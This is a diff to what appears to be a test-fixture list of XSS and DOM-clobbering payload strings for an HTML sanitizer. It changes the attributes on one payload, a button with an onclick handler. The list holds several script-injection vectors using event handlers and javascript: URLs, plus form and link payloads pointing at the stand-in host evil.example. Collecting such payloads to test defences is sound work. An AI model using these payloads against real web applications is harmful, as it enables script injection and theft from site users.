@@ -55,7 +55,7 @@ export const BREAKOUTS = [
   '<form action=https://evil.example/ id=f><input autofocus name=x></form><button form=f>x</button>',
   '<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=alert(1)>x</b>',
   '<form id=theme><input name=attributes><input name=parentNode></form><a id=scripts name=x href=//evil.example>',
-  '<button data-act=copy data-copies=link type=button onclick=alert(1)>x</button>',
+  '<button data-action=copy-text data-copies=paste-address type=button onclick=alert(1)>x</button>',
   '<p class=code><p class=editor><p id=main><p id=theme><img src=x onerror=alert(1)>',
   '<svg><set attributeName=href to=javascript:alert(1)></svg><audio src=x onerror=alert(1)>',
   '<math><a xlink:href=javascript:alert(1)>x</a></math>',
